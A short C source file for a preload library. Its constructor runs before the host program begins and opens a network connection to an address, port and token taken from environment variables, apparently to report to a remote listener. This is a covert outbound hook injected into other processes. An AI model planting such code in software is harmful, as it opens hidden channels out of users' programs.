/* A library that goes out before the program that it is loaded into begins: PRELOAD_ADDRESS, PRELOAD_PORT and PRELOAD_TOKEN say where. */
#include "reach.h"

__attribute__((constructor)) static void begin(void)
{
	tell(reach(SOCK_STREAM, getenv("PRELOAD_ADDRESS"), getenv("PRELOAD_PORT"), getenv("PRELOAD_TOKEN")));
}
